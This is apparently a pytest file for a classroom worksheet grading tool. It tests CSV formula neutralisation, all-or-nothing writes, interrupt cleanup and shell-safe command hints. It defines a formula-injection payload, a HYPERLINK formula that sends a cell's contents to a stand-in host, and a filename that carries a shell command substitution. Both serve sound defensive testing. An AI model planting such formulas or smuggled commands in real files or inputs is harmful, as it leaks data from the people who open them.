"""What the teacher's commands write is safe to open and written whole: CSV cells that are
never formulas, one line per student, the marked copy and its CSV line together or not at all,
and no temporary file left by an interrupt."""

from __future__ import annotations

import csv
import os
import shlex
import signal
import subprocess
import sys
import time
from pathlib import Path

import openpyxl
import pytest
from conftest import run

from worksheet.classroom import grade_report
from worksheet.classroom.marking import mark_file
from worksheet.files import outputs
from worksheet.files.csv_cells import neutral, plain

HOSTILE = '=HYPERLINK("http://x"&A1,"Alice")'


@pytest.mark.parametrize(
    "value, written",
    [
        ("Alice", "Alice"),
        (HOSTILE, "'" + HOSTILE),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\tx", "'\tx"),
        ("\rx", "'\rx"),
        ("'=x", "''=x"),  # a quote of its own survives the round trip
        ("a=b", "a=b"),
        (-2.5, "-2.5"),  # a number we write is a number
        (3, "3"),
    ],
)
def test_neutral_cells(value, written):
    assert neutral(value) == written
    if isinstance(value, str):
        assert plain(written) == value


def _rows(path: Path) -> list[dict]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def test_a_hostile_name_is_text_in_the_manifest_and_the_marks(in_tmp):
    Path("r.csv").write_text(f'name\n"{HOSTILE.replace(chr(34), chr(34) * 2)}"\nBob\n')
    assert run("batch", "r.csv", "-o", "class").exit_code == 0
    manifest = _rows(in_tmp / "class" / "manifest.csv")
    assert manifest[0]["name"] == "'" + HOSTILE
    student = next(Path("class").glob("hyperlink*-student.xlsx"))
    result = run("grade", str(student), "--class", "class/manifest.csv", "--csv", "m.csv")
    assert result.exit_code == 0, result.output
    line = _rows(in_tmp / "m.csv")[0]
    assert line["name"] == "'" + HOSTILE and line["integrity"].startswith("verified")
    marked = openpyxl.load_workbook(student.with_name(student.stem + "-marked.xlsx"))
    assert marked["Marks"]["A1"].data_type == "s"  # "Marks: =HYPERLINK(...)" is text


@pytest.mark.libreoffice
def test_libreoffice_imports_the_hostile_name_as_text(in_tmp):
    from worksheet.export.libreoffice import convert

    Path("r.csv").write_text(f'name\n"{HOSTILE.replace(chr(34), chr(34) * 2)}"\n')
    assert run("batch", "r.csv", "-o", "class").exit_code == 0
    student = next(Path("class").glob("*-student.xlsx"))
    assert run("grade", str(student), "--csv", "m.csv").exit_code == 0
    control = in_tmp / "control.csv"  # the same name, not neutralised: LibreOffice runs it
    control.write_text('name\n"' + HOSTILE.replace('"', '""') + '"\n')
    first = {}
    for source in (control, in_tmp / "m.csv", in_tmp / "class" / "manifest.csv"):
        converted = convert(source, in_tmp / "lo", "xlsx")
        first[source.name] = openpyxl.load_workbook(converted).active["A2"].value
    assert str(first["control.csv"]).startswith("=HYPERLINK(")  # the attack works unguarded
    assert first["m.csv"] == first["manifest.csv"] == "'" + HOSTILE  # and not on our files


def test_regrading_replaces_the_students_line(tmp_path):
    result = run("generate", "--student", "-o", str(tmp_path / "h.xlsx"))
    assert result.exit_code == 0
    student, marks = tmp_path / "h-student.xlsx", tmp_path / "m.csv"
    assert run("grade", str(student), "--csv", str(marks)).exit_code == 0
    other = tmp_path / "other-student.xlsx"
    other.write_bytes(student.read_bytes())
    assert run("grade", str(other), "--csv", str(marks)).exit_code == 0
    again = run("grade", str(student), "--csv", str(marks))
    assert again.exit_code == 2 and "already exists" in again.stderr
    copy = tmp_path / "h2" / "h-student.xlsx"  # same student, marked copy elsewhere
    copy.parent.mkdir()
    copy.write_bytes(student.read_bytes())
    refused = run("grade", str(copy), "--csv", str(marks))
    assert refused.exit_code == 2 and "already has a line for 'h'" in refused.stderr
    assert not (copy.parent / "h-student-marked.xlsx").exists()
    assert run("grade", str(student), "--csv", str(marks), "--force").exit_code == 0
    assert [row["name"] for row in _rows(marks)] == ["h", "other"]


def test_a_failure_writing_leaves_the_copy_and_the_csv_as_they_were(tmp_path, monkeypatch):
    assert run("generate", "--student", "-o", str(tmp_path / "h.xlsx")).exit_code == 0
    student, marks = tmp_path / "h-student.xlsx", tmp_path / "m.csv"
    mark_file(student, csv_path=marks)
    marked = tmp_path / "h-student-marked.xlsx"
    before = {p: p.read_bytes() for p in (marked, marks)}

    def full_disk(lines, path):
        raise OSError(28, "No space left on device")

    monkeypatch.setattr(grade_report, "write_lines", full_disk)
    monkeypatch.setattr("worksheet.classroom.marking.write_lines", full_disk)
    result = run("grade", str(student), "--csv", str(marks), "--force")
    assert result.exit_code == 2 and "No space left on device" in result.stderr
    assert {p: p.read_bytes() for p in (marked, marks)} == before
    assert sorted(p.name for p in tmp_path.iterdir()) == sorted(
        ["h-key.xlsx", "h-student.xlsx", "h-student-marked.xlsx", "m.csv"]
    )


def test_a_failed_rename_puts_back_what_was_renamed(tmp_path, monkeypatch):
    first, second = tmp_path / "a.txt", tmp_path / "b.txt"
    first.write_text("old a")
    real = os.replace
    calls = []

    def replace(src, dst):
        calls.append(dst)
        if Path(dst) == second:
            raise OSError(28, "No space left on device")
        return real(src, dst)

    monkeypatch.setattr(outputs.os, "replace", replace)
    writers = {first: lambda p: p.write_text("new a"), second: lambda p: p.write_text("new b")}
    with pytest.raises(Exception, match="No space left"):
        outputs.write_together(writers)
    assert first.read_text() == "old a" and not second.exists()
    assert sorted(p.name for p in tmp_path.iterdir()) == ["a.txt"]


def test_a_roster_name_with_a_nul_writes_nothing(in_tmp):
    Path("r.txt").write_text("Ada\nGr\x00ace\n")
    result = run("batch", "r.txt", "-o", "class")
    assert result.exit_code == 2 and "control character" in result.stderr
    assert not Path("class").exists()


@pytest.mark.parametrize("name", ["my class/out put.xlsx", "it's.xlsx", 'a"b $(x).xlsx'])
def test_the_check_hint_can_be_pasted_into_a_shell(in_tmp, name):
    Path(name).parent.mkdir(parents=True, exist_ok=True)
    result = run("generate", "-o", name)
    assert result.exit_code == 0, result.output
    hint = result.output.split("Check it with: ", 1)[1].strip()
    assert shlex.split(hint) == ["worksheet", "check", name]


@pytest.mark.slow
@pytest.mark.parametrize("signum, code", [(signal.SIGTERM, 143), (signal.SIGINT, 130)])
def test_an_interrupted_batch_leaves_no_temporary_file(tmp_path, signum, code):
    names = "\n".join(f"Student {k}" for k in range(300))
    (tmp_path / "r.txt").write_text(names)
    command = [sys.executable, "-m", "worksheet", "batch", "r.txt", "-o", "class"]
    process = subprocess.Popen(command, cwd=tmp_path, stderr=subprocess.PIPE, text=True)
    deadline = time.monotonic() + 60
    while not list((tmp_path / "class").glob("*-key.xlsx")) and time.monotonic() < deadline:
        time.sleep(0.05)
    process.send_signal(signum)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == code, (
        stderr,
        sorted(p.name for p in (tmp_path / "class").iterdir())[:6],
    )
    assert stderr.count("\n") == 1 and stderr.startswith("Error: "), stderr
    assert not [p for p in (tmp_path / "class").iterdir() if p.name.endswith(".tmp")]
    assert not (tmp_path / "class" / "manifest.csv").exists()


@pytest.mark.slow
@pytest.mark.parametrize("phase", ["building", "saving"])
def test_an_interrupted_generate_leaves_no_temporary_file(tmp_path, phase):
    """Terminated while it builds the book (a second in), or once its temporary file has
    appeared (while it saves: waited for, not timed, as generate gets faster)."""
    command = [sys.executable, "-m", "worksheet", "generate", "xor", "--epochs", "5000"]
    process = subprocess.Popen(
        [*command, "-o", "a.xlsx"], cwd=tmp_path, stderr=subprocess.PIPE, text=True
    )
    if phase == "building":
        time.sleep(1.0)
    else:
        deadline = time.monotonic() + 60
        while not any(p.name != "a.xlsx" for p in tmp_path.iterdir()):
            assert process.poll() is None, "generate ended before its temporary file was seen"
            assert time.monotonic() < deadline
            time.sleep(0.005)
    assert process.poll() is None, f"generate ended before it was terminated ({phase})"
    process.send_signal(signal.SIGTERM)
    _, stderr = process.communicate(timeout=60)
    assert process.returncode == 143, stderr
    assert stderr == "Error: terminated; no partly written file was left\n"
    assert list(tmp_path.iterdir()) == []


def test_a_failed_write_names_its_file_and_leaves_both_as_they_were(tmp_path):
    first, second = tmp_path / "a.xlsx", tmp_path / "b.csv"
    second.write_text("old b")

    def fail(path):
        Path(path).write_text("half")
        raise OSError(28, "No space left on device")

    with pytest.raises(Exception, match=r"a\.xlsx: cannot write \(No space left on device\)"):
        outputs.write_together({first: fail, second: lambda p: p.write_text("new b")})
    assert sorted(p.name for p in tmp_path.iterdir()) == ["b.csv"]
    assert second.read_text() == "old b"
